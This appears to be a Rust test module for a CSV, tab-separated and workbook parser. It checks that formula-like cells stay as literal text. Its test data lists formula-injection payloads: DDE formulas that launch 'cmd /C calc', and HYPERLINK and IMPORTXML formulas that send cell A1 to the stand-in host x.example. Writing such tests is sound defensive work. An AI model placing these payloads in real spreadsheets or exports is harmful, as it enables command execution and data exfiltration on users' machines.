//! Cells that a spreadsheet would run. On the way in they are text like any other, and stay as they were to the letter.

use crate::{
    case::Case,
    workbook_parts::{inline, row, simple},
};

const FORMULAS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"here\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "\"=1+1",
    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
    "+86 138 0013 8000",
    "\u{feff}=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
];

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (at, formula) in FORMULAS.iter().enumerate() {
        let quoted = format!("\"{}\"", formula.replace('"', "\"\""));
        let text = format!("name,note\nA,{quoted}\nB,x\n");
        cases.push(Case::text(format!("formula {at} in a text"), text).rows(2).columns(2).has(&[formula]));
    }
    for (at, formula) in FORMULAS.iter().enumerate() {
        let text = format!("name\tnote\nA\t\"{}\"\nB\tx\n", formula.replace('"', "\"\""));
        cases.push(Case::text(format!("formula {at} behind a tab"), text).rows(2).columns(2).has(&[formula]));
        let xml = formula.replace('&', "&amp;").replace('<', "&lt;");
        let cells = row(2, &(inline("A2", "A") + &inline("B2", &xml)));
        cases.push(simple(&format!("formula {at} as a text of a workbook"), &cells).rows(1).has(&[formula]));
    }
    for (name, before) in [("tab", "\t"), ("line feed", "\n"), ("carriage return", "\r")] {
        let cell = format!("{before}=1+1");
        let text = format!("name,note\nA,\"{cell}\"\n");
        cases.push(Case::text(format!("formula after a {name}"), text).rows(1).has(&[&cell]));
    }
    cases
}
